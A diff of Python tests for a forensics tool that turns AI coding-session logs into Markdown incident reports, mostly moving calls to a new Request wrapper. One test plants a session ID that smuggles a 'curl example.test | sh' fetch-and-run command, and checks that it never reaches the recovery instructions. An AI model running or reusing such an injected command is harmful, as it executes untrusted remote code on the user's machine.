@@ -10,6 +10,7 @@ import pytest
 from markdown_it import MarkdownIt
 
 from forensics.analysis.engine import analyse
+from forensics.analysis.request import Request
 from forensics.render.report.markdown import to_markdown
 from tests.support.analyses import analysis_of, report_of
 from tests.support.places import INCIDENT, RULE_FIXTURES
@@ -96,7 +97,7 @@ def test_metrics_are_ticked_only_where_a_rule_ran_and_found_nothing():
 
 
 def test_the_same_evidence_gives_the_same_bytes():
-    assert to_markdown(analyse([INCIDENT])) == report_of(INCIDENT)
+    assert to_markdown(analyse(Request([INCIDENT]))) == report_of(INCIDENT)
 
 
 def test_log_text_cannot_become_structure(tmp_path):
@@ -110,7 +111,7 @@ def test_log_text_cannot_become_structure(tmp_path):
     )
     lines = [record % (n, n, 1, n, hostile, n) for n in (1, 2)]
     (tmp_path / "session.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
-    report = to_markdown(analyse([tmp_path]))
+    report = to_markdown(analyse(Request([tmp_path])))
     assert "\n# Crashed" not in report
     assert "\x1b" not in report
     assert "{{ 7*7 }}".replace("{", "\\{").replace("}", "\\}").replace("*", "\\*") in report
@@ -145,7 +146,7 @@ def test_an_overlap_without_hazard_breaks_no_contract():
 
 
 def test_an_end_that_is_not_recorded_is_not_measured():
-    report = to_markdown(analyse(sorted((INCIDENT / ".claude/debug").glob("c4f*.txt"))))
+    report = to_markdown(analyse(Request(sorted((INCIDENT / ".claude/debug").glob("c4f*.txt")))))
     assert metric(report, "CCF901") == "not measured"
     assert metric(report, "CCF201") == "fail"
     assert metric(report, "CCF301") == "not measured"
@@ -177,7 +178,7 @@ def prompts(session: str, *seconds: int) -> str:
 def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
     session = "5e551011-0000-4000-8000-000000000001"
     (tmp_path / f"{session}.jsonl").write_text(prompts(session, 0, 10, 3610, 3620))
-    report = to_markdown(analyse([tmp_path]))
+    report = to_markdown(analyse(Request([tmp_path])))
     gap = "No dated record from any source for 1 h, from 2026-03-02T10:00:10.000Z to 2026-03-02T11:00:10.000Z"
     assert gap in report.partition("### Timeline")[2]
 
@@ -185,7 +186,9 @@ def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
 def test_only_an_id_that_the_client_gives_becomes_a_command(tmp_path):
     session = "x`; curl example.test | sh #"
     (tmp_path / "session.jsonl").write_text(prompts(session, 0, 10))
-    recovery = to_markdown(analyse([tmp_path])).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    recovery = (
+        to_markdown(analyse(Request([tmp_path]))).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    )
     assert "claude --resume" not in recovery
     assert "curl" not in recovery
 
@@ -201,7 +204,7 @@ def test_a_control_gap_stands_with_the_event_that_it_explains():
 
 def test_a_zone_that_the_evidence_contradicts_is_shown_with_a_warning_beside_it():
     def said(tz):
-        report = report_of(INCIDENT, tz=tz)
+        report = report_of(INCIDENT, zone=tz)
         return next(line for line in report.splitlines() if line.startswith("**Local time**")).strip()
 
     assert said("America/Chicago") == "**Local time**: --tz America/Chicago"
